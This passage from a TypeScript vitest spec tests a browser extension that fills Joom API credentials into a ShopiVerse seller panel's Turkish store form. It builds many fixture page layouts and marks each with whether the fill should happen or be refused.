import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { JOOM_APPS, JOOM_STORES, type JoomApp, type JoomStore } from '../panels/data';
import { customPages, shopiverseServer } from '../panels/routes';
import { BROWSER, browserForSuite, type TestPage } from './drivers';
import { forgetPushes, pushFromPopup, readJoomOnce } from './steps';

// Issue 16 item 1, written blind (without reading src/): ShopiVerse pages the replicas never imagined, each with a
// known answer. "filled": the three values land in the form the seller sees (and in the page's own model where it
// has one), nowhere else; "refused": no pushed value is written anywhere (inputs, open shadow roots, frames, model).
// For now the spec prints the misses and asserts only that the extension judged each page (the popup answered).
// Pages whose answer is debatable say why in `debatable`.

const [store] = JOOM_STORES as [JoomStore];
const [app] = JOOM_APPS as [JoomApp];
const PUSHED = [app.secret, app.clientId, store.id];
const SV = 'https://app.shopiverse.tech';

type Answer = 'filled' | 'refused';
interface BlindPage {
  name: string;
  expected: Answer;
  debatable?: string;
  /** The address the seller is on; other addresses the page loads (frames) in `extra`. */
  url: string;
  html: string;
  extra?: Record<string, string>;
  /** The seller presses Push before the form is rendered (the page is not waited for). */
  pushEarly?: boolean;
}

const CSS = `body{font:14px system-ui,sans-serif;margin:0;background:#f5f6fa;color:#333}header{display:flex;gap:16px;padding:10px 16px;background:#fff;border-bottom:2px solid #f97316}
main{padding:16px}.card{background:#fff;border-radius:6px;padding:16px;margin:12px 0}.banner{background:#fff4e5;color:#f97316;padding:10px;border-radius:4px;margin:8px 0}
label{display:block;color:#555;margin:10px 0 4px}input[type=text],input[type=password],input:not([type]){width:380px;padding:8px;border:1px solid #ccc;border-radius:4px;font-size:14px}
button{padding:8px 14px;border:0;border-radius:4px;margin:12px 4px 0 0;font-size:14px;cursor:pointer}.o{background:#f97316;color:#fff}.r{background:#ef4444;color:#fff}.c{background:#06b6d4;color:#fff}
.tabs{display:flex;gap:24px;border-bottom:1px solid #eee;padding:8px 0}.tabs .on{color:#f97316;border-bottom:2px solid #f97316}`;

/** A whole page: the submit of any form stays on the page (an SPA's own handler), and `__svReady` says it is drawn. */
function doc(body: string, options: { lang?: string; ready?: boolean; head?: string } = {}): string {
  const ready = options.ready === false ? '' : '<script>window.__svReady = true</script>';
  return `<!doctype html><html lang="${options.lang ?? 'tr'}"><head><meta charset="utf-8"><title>ShopiVerse</title><style>${CSS}</style>${options.head ?? ''}</head>
<body>${body}<script>document.addEventListener('submit', (e) => e.preventDefault())</script>${ready}</body></html>`;
}

const banner = (code = '00159', name = 'Joom(Joom)') =>
  `<div class="banner"><img alt="" src="/static/joom.png" width="20"> <b>${name}</b> Mağazasına ait düzenleme yapmaktasınız. ('${code}' kodlu mağaza)</div>`;
const KEYS = { secret: 'Secret Key', client: 'Client Id', store: 'Store Id' } as const;
type Key = keyof typeof KEYS;
/** A field as in the screenshot: label above, placeholder = label; `answer` marks where the value must land. */
const field = (key: Key, extra = '', answer = true) =>
  `<div class="fg"><label for="f-${key}">${KEYS[key]}</label><input type="text" id="f-${key}" placeholder="${KEYS[key]}" ${answer ? `data-answer="${key}"` : ''} ${extra}></div>`;
const FIELDS = (extra = '', answer = true) => (['secret', 'client', 'store'] as Key[]).map((key) => field(key, extra, answer)).join('');
const BUTTONS =
  '<button type="submit" class="o">Kaydet</button><button type="button" class="r">Api Tanımlarını Sil</button><button type="button" class="c">Yetki Talep Et</button>';
const durum = (text = 'Durum') => `<label><input type="checkbox" name="status"> ${text}</label>`;
const gorsel = '<label><input type="checkbox" name="asShown"> Görseldeki Gibi Yayınlansın Mı?</label>';
/** The Api Tanım form as in svjoomapi.png: banner, Durum, three fields, a checkbox, three buttons. */
const apiForm = (code = '00159', extra = '') => `${banner(code)}<form class="api">${durum()}${FIELDS(extra)}${gorsel}<div>${BUTTONS}</div></form>`;
const HEADER = '<header><b>ShopiVerse</b><span>Ana Sayfa</span><span>Ürünler</span><span>Siparişler</span><span>Ayarlar</span></header>';
const TABS = '<div class="tabs"><span>Mağaza</span><span class="on">Api Tanım</span><span>İş Planı</span></div>';
const CRUMB = '<div>Ana Sayfa / Ayarlar / Mağazalar / Mağaza</div>';
const storeCards = (codes: [string, string][]) =>
  `<div style="display:flex;gap:12px">${codes.map(([code, name]) => `<div class="card" style="width:200px"><span>${code}</span> <span>Aktif</span><h3>${name}</h3><button type="button">Düzenle</button></div>`).join('')}</div>`;
const STORE_LIST = storeCards([
  ['00161', 'Fruugo'],
  ['00159', 'Joom'],
  ['00149', 'Allegro'],
  ['00147', 'Ozon'],
]);
/** Delays drawing `html` into #late by `ms` (an SPA fetching the store first). */
const late = (html: string, ms: number) =>
  `<div id="late"></div><template id="t">${html}</template><script>setTimeout(() => { document.getElementById('late').append(document.getElementById('t').content.cloneNode(true)); window.__svReady = true }, ${ms})</script>`;

const PAGES: BlindPage[] = [
  {
    name: 'Bootstrap 4 card with nav-tabs and alert banner',
    expected: 'filled',
    url: `${SV}/tr/magaza-ayarlari/00159/api-tanim`,
    html: doc(
      `${HEADER}<main class="container"><ol class="breadcrumb"><li>Ana Sayfa</li><li>Ayarlar</li><li>Mağazalar</li><li class="active">Mağaza</li></ol>
<div class="card"><ul class="nav nav-tabs"><li class="nav-item"><a class="nav-link" href="#m">Mağaza</a></li><li class="nav-item"><a class="nav-link active" href="#a">Api Tanım</a></li></ul>
<div class="tab-content"><div class="tab-pane active"><div class="alert alert-warning" role="alert"><strong>Joom(Joom)</strong> Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</div>
<form><div class="form-check"><input class="form-check-input" type="checkbox" id="durum"><label class="form-check-label" for="durum">Durum</label></div>
${(['secret', 'client', 'store'] as Key[]).map((k) => `<div class="form-group"><label for="b-${k}">${KEYS[k]}</label><input type="text" class="form-control" id="b-${k}" placeholder="${KEYS[k]}" data-answer="${k}"></div>`).join('')}
<div class="btn-toolbar"><button type="submit" class="btn btn-primary o">Kaydet</button><button type="button" class="btn btn-danger r">Api Tanımlarını Sil</button><button type="button" class="btn btn-info c">Yetki Talep Et</button></div></form></div></div></div></main>`,
    ),
  },
  {
    name: 'Ant Design-like form items (label column, required marks, ant-alert)',
    expected: 'filled',
    url: `${SV}/tr/stores/edit/00159`,
    html: doc(
      `${HEADER}<main><div class="ant-tabs">${TABS}<div class="ant-alert ant-alert-warning banner"><span class="ant-alert-message">Joom(Joom) Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</span></div>
<form class="ant-form ant-form-horizontal">${(['secret', 'client', 'store'] as Key[])
        .map(
          (k) =>
            `<div class="ant-form-item ant-row" style="display:flex;align-items:center"><div class="ant-form-item-label" style="width:140px"><label for="ant_${k}" class="ant-form-item-required" title="${KEYS[k]}">${KEYS[k]}</label></div><div class="ant-form-item-control"><span class="ant-input-affix-wrapper"><input id="ant_${k}" class="ant-input" type="text" data-answer="${k}"></span></div></div>`,
        )
        .join(
          '',
        )}<label class="ant-checkbox-wrapper"><span class="ant-checkbox"><input type="checkbox" class="ant-checkbox-input"></span><span>Durum</span></label>
<div><button type="submit" class="ant-btn ant-btn-primary o"><span>Kaydet</span></button><button type="button" class="ant-btn ant-btn-dangerous r"><span>Api Tanımlarını Sil</span></button><button type="button" class="ant-btn c"><span>Yetki Talep Et</span></button></div></form></div></main>`,
    ),
  },
  {
    name: 'Material UI-like outlined fields: the label floats over the input, a legend notches the border',
    expected: 'filled',
    url: `${SV}/app/index.html`,
    html: doc(
      `${HEADER}<main><div class="MuiPaper-root card">${TABS}<div class="MuiAlert-root banner" role="alert"><div class="MuiAlert-message">Joom(Joom) Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</div></div>
<form class="MuiBox-root">${(['secret', 'client', 'store'] as Key[])
        .map(
          (k, i) =>
            `<div class="MuiFormControl-root MuiTextField-root" style="position:relative;margin:20px 0;width:400px"><label class="MuiInputLabel-root MuiInputLabel-shrink" id="mui-${i}-label" for="mui-${i}" style="position:absolute;left:10px;top:-9px;margin:0;background:#fff;padding:0 4px;font-size:12px">${KEYS[k]}</label><div class="MuiOutlinedInput-root" style="position:relative"><input aria-invalid="false" id="mui-${i}" type="text" class="MuiOutlinedInput-input" data-answer="${k}" style="width:380px;border:0;outline:0;padding:12px"><fieldset aria-hidden="true" style="position:absolute;inset:-5px 0 0;border:1px solid #bbb;border-radius:4px;margin:0;padding:0 8px;pointer-events:none"><legend style="visibility:hidden;font-size:12px;padding:0 4px"><span>${KEYS[k]}</span></legend></fieldset></div></div>`,
        )
        .join(
          '',
        )}<label class="MuiFormControlLabel-root"><span class="MuiCheckbox-root"><input type="checkbox"></span><span>Durum</span></label><div><button class="MuiButton-root o" type="submit">Kaydet</button><button class="MuiButton-root r" type="button">Api Tanımlarını Sil</button><button class="MuiButton-root c" type="button">Yetki Talep Et</button></div></form></div></main>`,
    ),
  },
  {
    name: 'Vuetify-like v-text-field (label absolutely placed inside the field, v-alert banner)',
    expected: 'filled',
    url: `${SV}/tr/panel/magazalar/00159`,
    html: doc(
      `<div class="v-application"><header class="v-app-bar"><b>ShopiVerse</b></header><main class="v-main"><div class="v-card card"><div class="v-tabs">${TABS}</div>
<div class="v-alert v-alert--outlined banner"><div class="v-alert__content">Joom(Joom) Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</div></div>
<form class="v-form">${(['secret', 'client', 'store'] as Key[])
        .map(
          (k, i) =>
            `<div class="v-input v-text-field"><div class="v-input__control"><div class="v-input__slot" style="position:relative;padding-top:18px"><div class="v-text-field__slot"><label for="input-${40 + i}" class="v-label v-label--active" style="position:absolute;top:0;left:0;margin:0;font-size:12px">${KEYS[k]}</label><input id="input-${40 + i}" type="text" data-answer="${k}"></div></div></div></div>`,
        )
        .join(
          '',
        )}<div class="v-input v-input--checkbox"><input type="checkbox" id="cb"><label for="cb" class="v-label" style="display:inline">Durum</label></div><div><button type="submit" class="v-btn o"><span class="v-btn__content">Kaydet</span></button><button type="button" class="v-btn r"><span class="v-btn__content">Api Tanımlarını Sil</span></button><button type="button" class="v-btn c"><span class="v-btn__content">Yetki Talep Et</span></button></div></form></div></main></div>`,
    ),
  },
  {
    name: 'Bootstrap 5 floating labels (the label comes after its input)',
    expected: 'filled',
    url: `${SV}/tr/s/00159/api`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form>${durum()}${(['secret', 'client', 'store'] as Key[])
        .map(
          (k) =>
            `<div class="form-floating" style="position:relative;margin:12px 0"><input type="text" class="form-control" id="fl-${k}" placeholder="${KEYS[k]}" data-answer="${k}" style="padding-top:22px"><label for="fl-${k}" style="position:absolute;top:0;left:10px;margin:2px 0;font-size:11px">${KEYS[k]}</label></div>`,
        )
        .join('')}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'placeholders only, no label elements',
    expected: 'filled',
    url: `${SV}/tr/store`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form>${durum()}${(['secret', 'client', 'store'] as Key[])
        .map((k) => `<div style="margin:10px 0"><input type="text" placeholder="${KEYS[k]}" data-answer="${k}"></div>`)
        .join('')}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'English interface: English banner, tabs, checkbox and buttons',
    expected: 'filled',
    debatable: 'the English banner wording is invented (PANELS.md: the English interface and its prefix are guesses)',
    url: `${SV}/en/settings/stores/00159/api-definition`,
    html: doc(
      `<header><b>ShopiVerse</b><span>Home</span><span>Products</span><span>Settings</span></header><main class="card"><div>Home / Settings / Stores / Store</div><div class="tabs"><span>Store</span><span class="on">Api Definition</span><span>Business Plan</span></div>
<div class="banner"><b>Joom(Joom)</b> You are editing the store Joom(Joom). (Store code '00159' …)</div><form><label><input type="checkbox"> Status</label>${FIELDS()}<label><input type="checkbox"> Publish as in the image?</label>
<div><button type="submit" class="o">Save</button><button type="button" class="r">Delete Api Definitions</button><button type="button" class="c">Request Authorization</button></div></form></main>`,
      { lang: 'en' },
    ),
  },
  {
    name: 'banner above the tabs, far from the form (page header band, then 400 px of other content)',
    expected: 'filled',
    url: `${SV}/tr/ayarlar/magaza/00159`,
    html: doc(
      `${HEADER}${banner()}<main>${CRUMB}<div class="card" style="height:400px">Mağaza özeti: 128 ürün, 14 sipariş, son eşitleme 5 dk önce.</div><div class="card">${TABS}<form>${durum()}${FIELDS()}${gorsel}<div>${BUTTONS}</div></form></div></main>`,
    ),
  },
  {
    name: 'banner text split across many elements (name, code and words in separate spans)',
    expected: 'filled',
    url: `${SV}/tr/settings/stores/00159/api`,
    html: doc(
      `${HEADER}<main class="card">${TABS}<div class="banner"><img class="logo" alt="" src="/static/joom.png" width="20"> <span><strong>Joom</strong><small>(Joom)</small></span> <span>Mağazasına</span> <span>ait düzenleme</span> <span>yapmaktasınız.</span> <span>(<b>'</b><b>001</b><b>59</b><b>'</b> kodlu <em>mağaza</em>)</span></div>
<form>${durum()}${FIELDS()}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'two Joom stores listed in a sidebar while one store’s form is open',
    expected: 'filled',
    url: `${SV}/tr/magazalar/00159/api`,
    html: doc(
      `${HEADER}<div style="display:flex"><aside class="card" style="width:220px"><h4>Mağazalar</h4><ul><li><a href="#">00159 · Joom (Joom) · Aktif</a></li><li><a href="#">00163 · Joom (Joom Ege) · Aktif</a></li><li><a href="#">00149 · Allegro</a></li></ul></aside>
<main class="card" style="flex:1">${TABS}${apiForm()}</main></div>`,
    ),
  },
  {
    name: 'the banner and form inside a same-origin iframe of the settings shell',
    expected: 'filled',
    url: `${SV}/tr/settings/integrations`,
    html: doc(`${HEADER}<main>${CRUMB}<iframe src="/tr/embed/api-form/00159" style="width:900px;height:600px;border:0;background:#fff"></iframe></main>`),
    extra: { [`${SV}/tr/embed/api-form/00159`]: doc(`<main class="card">${TABS}${apiForm()}</main>`) },
  },
  {
    name: 'form rendered late, 2 s after load (pushed once it shows)',
    expected: 'filled',
    url: `${SV}/tr/app/store-settings/00159`,
    html: doc(`${HEADER}<main class="card">${late(`${TABS}${apiForm()}`, 2000)}</main>`, { ready: false }),
  },
  {
    name: 'Push pressed before the form renders (form drawn 3 s after load)',
    expected: 'filled',
    debatable:
      'the push is pending while nothing is drawn; the test then brings the form’s tab to the front (the popup is a tab here), and expects the waiting push to fill the form when it appears',
    url: `${SV}/tr/app/store-settings/00159/slow`,
    pushEarly: true,
    html: doc(`${HEADER}<main class="card">${late(`${TABS}${apiForm()}`, 3000)}</main>`, { ready: false }),
  },
  {
    name: 'React-like controlled inputs (value tracker; the form re-renders from state on every keystroke)',
    expected: 'filled',
    url: `${SV}/tr/r/stores/00159/api`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form id="rf">${durum()}${FIELDS()}<div>${BUTTONS}</div></form></main>
<script>
const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
const state = { secret: '', client: '', store: '' };
const tracked = new WeakMap();
const inputs = () => [...document.querySelectorAll('#rf input[data-answer]')];
for (const input of inputs()) {
  tracked.set(input, '');
  // React's tracker: a value set through the element's own property is remembered, so the next input event is not a change.
  Object.defineProperty(input, 'value', { configurable: true, get() { return native.get.call(this); }, set(v) { tracked.set(this, String(v)); native.set.call(this, v); } });
}
function render() { for (const input of inputs()) { const want = state[input.dataset.answer]; if (input.value !== want) input.value = want; } }
for (const type of ['input', 'change']) document.getElementById('rf').addEventListener(type, (e) => {
  const input = e.target; if (!input.dataset || !input.dataset.answer) return;
  const now = native.get.call(input);
  if (now !== tracked.get(input)) { tracked.set(input, now); state[input.dataset.answer] = now; }
  render();
});
window.__svModel = () => [state.secret, state.client, state.store];
</script>`,
    ),
  },
  {
    name: 'keyed re-mount: every keystroke replaces the whole form with new elements built from state',
    expected: 'filled',
    debatable: 'an app that re-mounts its inputs on each input event is unusual (a key bug); a fill that holds references to the old inputs loses the values',
    url: `${SV}/tr/r/stores/00159/remount`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<div id="host"></div></main>
<script>
const state = { secret: '', client: '', store: '' };
const labels = { secret: 'Secret Key', client: 'Client Id', store: 'Store Id' };
function render() {
  const form = document.createElement('form');
  const box = document.createElement('label'); const cb = document.createElement('input'); cb.type = 'checkbox'; box.append(cb, ' Durum'); form.append(box);
  for (const key of ['secret', 'client', 'store']) {
    const wrap = document.createElement('div'); const label = document.createElement('label'); label.textContent = labels[key]; label.htmlFor = 'k-' + key;
    const input = document.createElement('input'); input.type = 'text'; input.id = 'k-' + key; input.placeholder = labels[key]; input.dataset.answer = key; input.value = state[key];
    input.addEventListener('input', () => { state[key] = input.value; render(); });
    wrap.append(label, input); form.append(wrap);
  }
  const bar = document.createElement('div');
  for (const [text, cls, type] of [['Kaydet', 'o', 'submit'], ['Api Tanımlarını Sil', 'r', 'button'], ['Yetki Talep Et', 'c', 'button']]) { const b = document.createElement('button'); b.type = type; b.className = cls; b.textContent = text; bar.append(b); }
  form.append(bar);
  document.getElementById('host').replaceChildren(form);
}
render();
window.__svModel = () => [state.secret, state.client, state.store];
</script>`,
    ),
  },
  {
    name: 'Vue-like v-model (input event), with v-model.lazy (change event) on Secret Key',
    expected: 'filled',
    url: `${SV}/tr/v/magaza/00159`,
    html: doc(
      `${HEADER}<main class="card" id="app">${TABS}${banner()}<form>${durum()}${FIELDS()}<p>Önizleme: <span id="preview"></span></p><div>${BUTTONS}</div></form></main>
<script>
const model = { secret: '', client: '', store: '' };
for (const input of document.querySelectorAll('input[data-answer]')) {
  const key = input.dataset.answer;
  input.addEventListener(key === 'secret' ? 'change' : 'input', () => { model[key] = input.value; document.getElementById('preview').textContent = model.store; });
}
window.__svModel = () => [model.secret, model.client, model.store];
</script>`,
    ),
  },
  {
    name: 'fields disabled until the store loads (enabled 2 s after they are drawn); Push pressed while disabled',
    expected: 'filled',
    debatable:
      'pressed while the fields are disabled: telling the seller to press again would also be fair; a waiting push that fills once they are enabled is what the seller wants',
    url: `${SV}/tr/magazalar/00159/duzenle`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form><fieldset id="fs" disabled style="border:0;padding:0">${durum()}${FIELDS()}<div>${BUTTONS}</div></fieldset></form></main>
<script>setTimeout(() => { document.getElementById('fs').disabled = false }, 2000)</script>`,
    ),
  },
  {
    name: 'form inside a web component’s open shadow root',
    expected: 'filled',
    url: `${SV}/tr/wc/stores/00159`,
    html: doc(
      `${HEADER}<main class="card">${TABS}<sv-api-form code="00159"></sv-api-form></main>
<template id="tpl"><style>${CSS}</style>${apiForm()}</template>
<script>customElements.define('sv-api-form', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: 'open' }).append(document.getElementById('tpl').content.cloneNode(true)); const f = this.shadowRoot.querySelector('form'); f.addEventListener('submit', (e) => e.preventDefault()); } });</script>`,
    ),
  },
  {
    name: 'modal dialog over the store list',
    expected: 'filled',
    url: `${SV}/tr/settings/stores`,
    html: doc(
      `${HEADER}<main>${CRUMB}${STORE_LIST}</main><div class="modal-backdrop" style="position:fixed;inset:0;background:rgba(0,0,0,.45)"></div>
<div class="modal" role="dialog" aria-modal="true" style="position:fixed;top:30px;left:50%;transform:translateX(-50%);width:560px;max-height:90vh;overflow:auto;background:#fff;border-radius:8px;padding:16px"><h3>Mağaza Düzenle</h3>${TABS}${apiForm()}</div>`,
    ),
  },
  {
    name: 'wizard whose Api Tanım is step 3 (steps 1 and 2 kept in the DOM, hidden)',
    expected: 'filled',
    url: `${SV}/tr/onboarding/joom`,
    html: doc(
      `${HEADER}<main class="card"><ol style="display:flex;gap:24px;list-style:none;padding:0"><li>1 Mağaza</li><li>2 Ayarlar</li><li><b>3 Api Tanım</b></li></ol>
<section style="display:none"><label>Mağaza Adı</label><input type="text" value="Joom"></section><section hidden><label>Para Birimi</label><input type="text" value="TRY"></section>
<section>${apiForm()}<button type="button">Geri</button><button type="button">İleri</button></section></main>`,
    ),
  },
  {
    name: 'mobile layout: a 420 px column, hamburger header, full-width fields and stacked buttons',
    expected: 'filled',
    url: `${SV}/m/tr/store/00159/api`,
    html: doc(
      `<div style="width:420px;margin:0 auto;background:#fff"><header><span>☰</span><b>ShopiVerse</b></header><div style="padding:8px"><select><option>Api Tanım</option><option>Mağaza</option></select>${banner()}
<form>${durum()}${(['secret', 'client', 'store'] as Key[]).map((k) => `<label for="m-${k}">${KEYS[k]}</label><input type="text" id="m-${k}" placeholder="${KEYS[k]}" data-answer="${k}" style="width:390px">`).join('')}
<button type="submit" class="o" style="display:block;width:100%">Kaydet</button><button type="button" class="r" style="display:block;width:100%">Api Tanımlarını Sil</button><button type="button" class="c" style="display:block;width:100%">Yetki Talep Et</button></form></div></div>`,
    ),
  },
  {
    name: 'form inside a right-to-left wrapper',
    expected: 'filled',
    url: `${SV}/tr/rtl/store/00159`,
    html: doc(`${HEADER}<main class="card" dir="rtl">${TABS}${apiForm()}</main>`),
  },
  {
    name: 'a Trendyol store’s form (its own labels) beside the Joom store’s form',
    expected: 'filled',
    debatable: 'two store forms on one page: only one is a Joom form, so filling it is right by item 1; refusing as "two forms" would be defensible too',
    url: `${SV}/tr/magazalar/karsilastir`,
    html: doc(
      `${HEADER}<main style="display:flex;gap:16px"><div class="card">${TABS}<div class="banner"><b>Trendyol(Trendyol)</b> Mağazasına ait düzenleme yapmaktasınız. ('00152' kodlu mağaza)</div>
<form>${durum()}<label>Api Key</label><input type="text" placeholder="Api Key"><label>Api Secret</label><input type="text" placeholder="Api Secret"><label>Satıcı Id</label><input type="text" placeholder="Satıcı Id"><div>${BUTTONS}</div></form></div>
<div class="card">${TABS}${apiForm()}</div></main>`,
    ),
  },
  {
    name: 'Kaydet outside the <form> element (a footer button with form="…")',
    expected: 'filled',
    url: `${SV}/tr/store/00159/api-tanim`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form id="apiForm">${durum()}${FIELDS()}${gorsel}</form><footer style="border-top:1px solid #eee;margin-top:16px"><button type="submit" form="apiForm" class="o">Kaydet</button><button type="button" class="r">Api Tanımlarını Sil</button><button type="button" class="c">Yetki Talep Et</button></footer></main>`,
    ),
  },
  {
    name: 'no <form> element at all: divs, and Kaydet posts by fetch',
    expected: 'filled',
    url: `${SV}/tr/store/00159/api-divs`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<div class="form" id="f">${durum()}${FIELDS()}<div><button type="button" class="o" id="save">Kaydet</button><button type="button" class="r">Api Tanımlarını Sil</button><button type="button" class="c">Yetki Talep Et</button></div></div></main>
<script>document.getElementById('save').addEventListener('click', () => { const v = Object.fromEntries([...document.querySelectorAll('[data-answer]')].map((i) => [i.dataset.answer, i.value])); fetch('/__api/store/00159', { method: 'POST', body: JSON.stringify({ secret: v.secret, clientId: v.client, storeId: v.store }) }); });</script>`,
    ),
  },
  {
    name: 'the page’s own JS posts the form by fetch to app.shopiverse.tech on submit',
    expected: 'filled',
    url: `${SV}/tr/store/00159/api-fetch`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form id="f">${durum()}${FIELDS()}<div>${BUTTONS}</div></form></main>
<script>document.getElementById('f').addEventListener('submit', (e) => { e.preventDefault(); const v = Object.fromEntries([...e.target.querySelectorAll('[data-answer]')].map((i) => [i.dataset.answer, i.value])); fetch('https://app.shopiverse.tech/__api/store/00159', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ secret: v.secret, clientId: v.client, storeId: v.store }) }); });</script>`,
    ),
  },
  {
    name: 'a classic form with method="post" and an absolute action on app.shopiverse.tech',
    expected: 'filled',
    url: `${SV}/tr/legacy/store.php`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form method="post" action="https://app.shopiverse.tech/tr/legacy/store.php?code=00159&amp;save=1">${durum()}${FIELDS()}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'table layout: labels in <th>, inputs in <td>',
    expected: 'filled',
    url: `${SV}/tr/admin/store_api/00159`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form><table><tr><th>Durum</th><td><input type="checkbox"></td></tr>${(['secret', 'client', 'store'] as Key[]).map((k) => `<tr><th style="text-align:left;padding-right:16px">${KEYS[k]}</th><td><input type="text" data-answer="${k}"></td></tr>`).join('')}</table><div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'labels beside the fields in a grid, fields in another order (Store Id, Client Id, Secret Key)',
    expected: 'filled',
    url: `${SV}/tr/store-settings/00159/api`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form style="display:grid;grid-template-columns:140px 1fr;align-items:center;gap:8px">${(['store', 'client', 'secret'] as Key[]).map((k) => `<label for="g-${k}" style="margin:0">${KEYS[k]}</label><input type="text" id="g-${k}" data-answer="${k}">`).join('')}<span></span>${durum()}<span></span><div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'Secret Key as a password field with a show button; labels with asterisks and hints',
    expected: 'filled',
    url: `${SV}/tr/store/00159/api-secure`,
    html: doc(
      `${HEADER}<main class="card">${TABS}${banner()}<form>${durum()}<label for="p-secret">Secret Key <span style="color:red">*</span></label><input type="password" id="p-secret" data-answer="secret" autocomplete="off"><button type="button" aria-label="Göster">👁</button>
<label for="p-client">Client Id <span style="color:red">*</span> <small>(Joom panelindeki Müşteri Kimlik Numarası)</small></label><input type="text" id="p-client" data-answer="client">
<label for="p-store">Store Id <span style="color:red">*</span> <small title="Kimlik No">ⓘ</small></label><input type="text" id="p-store" data-answer="store"><div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'form below the fold (1500 px of content above it)',
    expected: 'filled',
    url: `${SV}/tr/store/00159/long`,
    html: doc(`${HEADER}<main><div class="card" style="height:1500px">Mağaza istatistikleri…</div><div class="card">${TABS}${apiForm()}</div></main>`),
  },
  {
    name: 'other inputs on the page: header search, a store-name field, a note textarea',
    expected: 'filled',
    url: `${SV}/tr/store/00159/with-search`,
    html: doc(
      `<header><b>ShopiVerse</b><input type="text" placeholder="Ara…" aria-label="Ara"></header><main class="card">${TABS}${banner()}<label>Mağaza Adı</label><input type="text" value="Joom"><form>${durum()}${FIELDS()}<label>Not</label><textarea></textarea><div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'the real form, and a read-only example form with example values in a help panel beside it',
    expected: 'filled',
    debatable:
      'the example’s banner names a Joom store with a code (00001): its fields are read-only, so only one form can take the values, but refusing as "two forms" writes nothing wrong',
    url: `${SV}/tr/store/00159/api-help`,
    html: doc(
      `${HEADER}<main style="display:flex;gap:16px"><div class="card">${TABS}${apiForm()}</div><aside class="card" style="width:420px"><h4>Yardım: örnek doldurulmuş form</h4>
<div class="banner">Örnek: <b>Joom(Joom)</b> Mağazasına ait düzenleme yapmaktasınız. ('00001' kodlu mağaza)</div><form><label>Secret Key</label><input type="text" readonly value="0123456789abcdef0123456789abcdef"><label>Client Id</label><input type="text" readonly value="0123456789abcdef"><label>Store Id</label><input type="text" readonly value="000000000000000000000000"></form></aside></main>`,
    ),
  },
  {
    name: 'drawer sliding in from the right over the store list',
    expected: 'filled',
    url: `${SV}/tr/stores`,
    html: doc(
      `${HEADER}<main>${CRUMB}${STORE_LIST}</main><div style="position:fixed;inset:0;background:rgba(0,0,0,.3)"></div><aside role="dialog" style="position:fixed;top:0;right:0;bottom:0;width:520px;background:#fff;padding:16px;overflow:auto;box-shadow:-4px 0 12px rgba(0,0,0,.2)"><h3>Joom · 00159</h3>${TABS}${apiForm()}</aside>`,
    ),
  },
  {
    name: 'code written without quotes and after the name ("Joom mağazası, kod 00159")',
    expected: 'filled',
    debatable: 'the banner wording differs from the screenshot’s; PANELS.md knows only the one sentence',
    url: `${SV}/tr/store/00159/banner2`,
    html: doc(
      `${HEADER}<main class="card">${TABS}<div class="banner"><b>Joom</b> mağazası düzenleniyor · Mağaza kodu: 00159</div><form>${durum()}${FIELDS()}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  // Refused pages: nothing may be written anywhere.
  {
    name: 'decoy: only a read-only example form in a help panel (no real form on the page)',
    expected: 'refused',
    url: `${SV}/tr/help/joom-api`,
    html: doc(
      `${HEADER}<main class="card"><h2>Joom entegrasyonu nasıl yapılır?</h2><p>Api Tanım sekmesinde aşağıdaki alanları doldurun:</p><div class="card" style="border:1px dashed #aaa">${banner('00159')}
<form>${durum()}${FIELDS('readonly', false)}<div>${BUTTONS}</div></form></div></main>`,
    ),
  },
  {
    name: 'decoy: a screenshot-like disabled copy of the form (greyed, inert) in a guide',
    expected: 'refused',
    url: `${SV}/tr/guide/api-tanim`,
    html: doc(
      `${HEADER}<main class="card"><h2>Ekran görüntüsü</h2><figure inert style="filter:grayscale(1);pointer-events:none;border:1px solid #ddd;padding:8px">${banner('00159')}<form>${durum()}${FIELDS('disabled', false)}<div>${BUTTONS.replaceAll('<button', '<button disabled')}</div></form><figcaption>Şekil 3: Api Tanım</figcaption></figure></main>`,
    ),
  },
  {
    name: 'two Joom stores’ forms open side by side (00159 and 00163)',
    expected: 'refused',
    url: `${SV}/tr/magazalar/coklu`,
    html: doc(
      `${HEADER}<main style="display:flex;gap:16px"><div class="card">${banner('00159')}<form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></div><div class="card">${banner('00163')}<form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></div></main>`,
    ),
  },
  {
    name: 'a Trendyol store’s form with the same three labels (no Joom form)',
    expected: 'refused',
    url: `${SV}/tr/settings/stores/00152/api`,
    html: doc(
      `${HEADER}<main class="card">${TABS}<div class="banner"><b>Trendyol(Trendyol)</b> Mağazasına ait düzenleme yapmaktasınız. ('00152' kodlu mağaza)</div><form>${durum()}${FIELDS('', false)}<div>${BUTTONS}</div></form></main>`,
    ),
  },
  {
    name: 'the Mağaza tab is shown; the Api Tanım panel is in the DOM but display:none',
    expected: 'refused',
